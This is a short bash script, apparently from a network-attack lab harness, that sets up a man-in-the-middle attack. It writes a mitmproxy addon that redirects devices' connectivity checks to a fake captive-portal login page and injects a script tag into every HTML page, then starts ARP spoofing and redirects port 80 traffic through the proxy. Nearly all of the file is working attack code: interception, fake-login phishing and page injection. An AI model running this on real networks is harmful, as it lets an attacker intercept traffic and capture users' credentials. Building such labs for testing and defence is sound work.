# shellcheck shell=bash
# Somebody who changes pages replaces the connectivity test's page, too, so that devices believe in a portal.
start() { cat >"$S/run/pretend.py" <<'P'
from mitmproxy import http
def response(flow):
    if "generate_204" in flow.request.path:
        flow.response = http.Response.make(302, b"", {"Location": "http://login.wifi.test/"})
    elif "html" in flow.response.headers.get("content-type", ""):
        flow.response.text = flow.response.text.replace("</body>", "<script>x()</script></body>")
P
  mitm attacker mitm "$S/run/mitmca" -s "$S/run/pretend.py"; redirect attacker eth0 80 8080; arp_mitm; }
stop() { unredirect attacker; }
